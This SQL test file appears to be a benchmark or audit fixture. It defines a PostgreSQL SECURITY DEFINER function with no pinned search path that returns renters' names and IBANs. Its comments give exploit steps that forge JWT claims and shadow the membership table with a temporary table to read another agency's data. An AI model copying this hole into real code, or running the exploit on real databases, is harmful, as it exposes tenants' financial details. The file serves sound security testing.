-- The function has its owner's rights but no pinned search path; the caller's temporary membership table is
-- taken instead of the real one.
-- about: rent_statement, accounts_membership, leases_lease, leases_renter
-- as: hf_leasehold_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","aal":"aal1"}';
-- exploit: CREATE TEMP TABLE accounts_membership AS
-- exploit:   SELECT 'b0000000-0000-4000-8000-000000000000'::uuid AS agency_id,
-- exploit:   'a0000000-0000-4000-8000-000000000001'::uuid AS user_id;
-- exploit: SELECT * FROM rent_statement();
-- shows: Road-secret renter
CREATE FUNCTION rent_statement() RETURNS TABLE (renter text, iban text) LANGUAGE sql STABLE SECURITY DEFINER
AS $$
  SELECT r.full_name, r.iban
  FROM leases_renter r JOIN accounts_membership m ON m.agency_id = r.agency_id
  WHERE m.user_id = token_user()
$$;
REVOKE EXECUTE ON FUNCTION rent_statement() FROM PUBLIC;
GRANT EXECUTE ON FUNCTION rent_statement() TO hf_leasehold_app;
